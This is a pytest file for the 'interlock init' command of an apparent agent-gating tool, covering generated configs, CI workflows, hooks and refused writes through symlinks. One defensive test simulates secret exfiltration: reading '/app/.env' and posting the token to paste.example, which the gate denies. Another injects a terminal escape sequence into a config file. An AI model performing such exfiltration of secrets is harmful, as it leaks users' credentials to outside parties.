"""`interlock init` in processes: all that it writes works at once, up to a refused call."""

from __future__ import annotations

import json
import os
import re
import shlex
import signal
import subprocess
import time
from pathlib import Path

import pytest
import yaml

from interlock import Client, Denied
from monitor.cli.__main__ import build_parser
from tests.support.gate_served import UnixHttp
from tests.support.kafka_broker import CHECKOUT
from tests.support.monitor_process import ENTRY, LOOK_EVERY_S, PATIENCE_S

FILES = {"interlock.yaml", "invariants/first.yaml", ".interlock/.gitignore"}
WORKFLOW = ".github/workflows/interlock.yml"


def environment() -> dict[str, str]:
    """Modules of the checkout, from any folder; no settings of this process."""
    kept = {name: value for name, value in os.environ.items() if not name.startswith("INTERLOCK_")}
    return {**kept, "PYTHONPATH": str(CHECKOUT)}


def interlock(folder: Path, *arguments: str, code: int = 0) -> str:
    done = subprocess.run(
        [*ENTRY, *arguments],
        cwd=folder,
        env=environment(),
        capture_output=True,
        text=True,
        timeout=PATIENCE_S,
        check=False,
    )
    assert done.returncode == code, done.stdout + done.stderr
    assert done.stderr == ""
    return done.stdout


def files_of(folder: Path) -> dict[str, bytes]:
    found = (path for path in folder.rglob("*") if path.is_file())
    return {str(path.relative_to(folder)): path.read_bytes() for path in found}


def test_an_empty_folder_has_a_refused_call_at_once(tmp_path: Path) -> None:
    """Check, test and doctor pass; a gate starts without a broker, and refuses the second call."""
    told = interlock(tmp_path, "init")
    assert "interlock gate serve --config interlock.yaml" in told
    assert files_of(tmp_path).keys() == FILES
    interlock(tmp_path, "check", "--deep", "invariants")
    assert "0 failed" in interlock(tmp_path, "test", "invariants")
    assert " 0 survived" in interlock(tmp_path, "test", "invariants", "--mutate")
    with (tmp_path / "gate.log").open("wb") as log:
        gate = subprocess.Popen(
            [*ENTRY, "gate", "serve", "--config", "interlock.yaml"],
            cwd=tmp_path, env=environment(), stdin=subprocess.DEVNULL, stdout=log, stderr=log,
        )  # fmt: skip
    try:
        socket = tmp_path / ".interlock" / "gate.sock"
        _wait_until_ready(socket, gate, tmp_path / "gate.log")
        with Client(gate=f"unix:{socket}", agent="newcomer") as client, client.session() as session:
            assert session.call("read_file", lambda path: "TOKEN", path="/app/.env") == "TOKEN"
            with pytest.raises(Denied, match="once a file with secrets was named"):
                session.call("http_post", pytest.fail, url="https://paste.example/x", body="TOKEN")
        told = interlock(tmp_path, "doctor", "--config", "interlock.yaml")
        assert told.splitlines()[-1].endswith("0 trouble, 0 unknown: ok")
    finally:
        gate.send_signal(signal.SIGTERM)
        assert gate.wait(PATIENCE_S) == 0


def _wait_until_ready(socket: Path, gate: subprocess.Popen[bytes], log: Path) -> None:
    deadline = time.monotonic() + PATIENCE_S
    while True:
        assert gate.poll() is None and time.monotonic() < deadline, log.read_text()
        if socket.exists():
            connection = UnixHttp(socket)
            try:
                connection.request("GET", "/-/ready")
                if connection.getresponse().status == 200:
                    return
            except ConnectionError:
                pass
            finally:
                connection.close()
        time.sleep(LOOK_EVERY_S)


def test_a_second_run_changes_nothing(tmp_path: Path) -> None:
    """Files of its own stay as they are, and so does a user's file, whose difference is shown."""
    interlock(tmp_path, "init")
    (tmp_path / "interlock.yaml").write_text("state_dir: mine # \x1b[2J\n")
    before = files_of(tmp_path)
    told = interlock(tmp_path, "init")
    assert "interlock.yaml: is there with another text, and was not changed" in told
    assert "-state_dir: mine" in told and "\x1b" not in told
    assert files_of(tmp_path) == before
    interlock(tmp_path, "init", "--check", code=1)
    assert files_of(tmp_path) == before


def test_check_writes_nothing(tmp_path: Path) -> None:
    """It exits with 1 until all is there."""
    told = interlock(tmp_path, "init", "--check", code=1)
    assert told.count("would be written") == len(FILES) and files_of(tmp_path) == {}
    interlock(tmp_path, "init")
    interlock(tmp_path, "init", "--check")


def test_a_project_on_github_gets_a_job(tmp_path: Path) -> None:
    """With both folders, or with the flag; its commands are ours, and it installs no other's."""
    project = tmp_path / "a project"
    for name in (".git", ".github", ".claude"):
        (project / name).mkdir(parents=True)
    (project / "requirements.txt").write_text("langchain\npydantic-ai\n")
    told = json.loads(interlock(tmp_path, "init", "--directory", str(project), "--output", "json"))
    assert {one["path"]: one["state"] for one in told["files"]} == dict.fromkeys(
        (*FILES, WORKFLOW), "written"
    )
    assert told["frameworks"] == ["LangChain and LangGraph", "Pydantic AI"]
    assert told["commands"][0] == f"cd '{project}'"
    text = (project / WORKFLOW).read_text()
    assert "run: interlock check invariants\n" in text
    assert "run: interlock test invariants\n" in text
    assert "pip install $WHEELS\n" in text and "pip install interlock" not in text
    steps = {step["name"]: step for step in _steps(text) if "name" in step}
    for name in ("check", "test"):
        interlock(project, *shlex.split(steps[name]["run"])[1:])
    installing = subprocess.run(
        ["bash", "-e", "-c", steps["install Interlock"]["run"]],
        env={**environment(), "WHEELS": ""}, capture_output=True, text=True, check=False,
        timeout=PATIENCE_S,
    )  # fmt: skip
    assert installing.returncode == 1 and "INTERLOCK_WHEELS" in installing.stdout
    empty = tmp_path / "empty"
    empty.mkdir()
    interlock(empty, "init", "--ci")
    assert files_of(empty).keys() == FILES | {WORKFLOW}


def _steps(workflow: str) -> list[dict[str, str]]:
    found: list[dict[str, str]] = yaml.safe_load(workflow)["jobs"]["invariants"]["steps"]
    return found


def test_a_project_of_node_with_servers_of_mcp(tmp_path: Path) -> None:
    """It is pointed to the client for Node, and to the proxy, whose command exists."""
    (tmp_path / "package.json").write_text('{"dependencies": {"ai": "7"}}')
    (tmp_path / ".mcp.json").write_text("{}")
    told = json.loads(interlock(tmp_path, "init", "--output", "json"))
    assert told["frameworks"] == [] and told["lines"] == []
    node, proxy = told["notes"]
    (page,) = re.findall(r"docs/[\w./]+", node)
    assert (CHECKOUT / page.rstrip(";")).is_file()
    (command,) = re.findall(r"`interlock (.*)`", proxy)
    assert build_parser().parse_args(shlex.split(command)).run


def test_flags_before_a_part_are_refused(tmp_path: Path) -> None:
    """`--check` would be that of the project, and the part would write."""
    done = subprocess.run(
        [*ENTRY, "init", "--check", "claude-code", "--gate", "unix:g"],
        cwd=tmp_path, env=environment(), capture_output=True, text=True, check=False,
        timeout=PATIENCE_S,
    )  # fmt: skip
    assert done.returncode == 2 and "`--check` before `claude-code`" in done.stderr
    assert files_of(tmp_path) == {}


def test_a_project_of_claude_code(tmp_path: Path) -> None:
    """The command that is printed writes the hooks, and a second run has nothing to do."""
    (tmp_path / ".claude").mkdir()
    commands = json.loads(interlock(tmp_path, "init", "--output", "json"))["commands"]
    interlock(tmp_path, *shlex.split(commands[-1])[1:])
    hooks = (tmp_path / ".claude" / "settings.json").read_text()
    assert "PreToolUse" in hooks and str(tmp_path / ".interlock" / "gate.sock") in hooks
    assert "nothing to change" in interlock(tmp_path, *shlex.split(commands[-1])[1:])


def test_a_link_out_of_the_folder_is_refused(tmp_path: Path) -> None:
    """A foreign repository cannot have it write elsewhere; the rest is written."""
    outside, project = tmp_path / "outside", tmp_path / "project"
    outside.mkdir()
    project.mkdir()
    (project / "invariants").symlink_to(outside)
    told = interlock(project, "init", code=1)
    assert "invariants/first.yaml: was not written: on the way to it is a link" in told
    assert files_of(outside) == {}
    assert (project / "interlock.yaml").exists()


def test_a_folder_that_is_not_there(tmp_path: Path) -> None:
    """It is not made: the name may be a mistake."""
    done = subprocess.run(
        [*ENTRY, "init", "--directory", str(tmp_path / "x")],
        env=environment(), capture_output=True, text=True, timeout=PATIENCE_S, check=False,
    )  # fmt: skip
    assert done.returncode == 2 and "is not a folder" in done.stderr
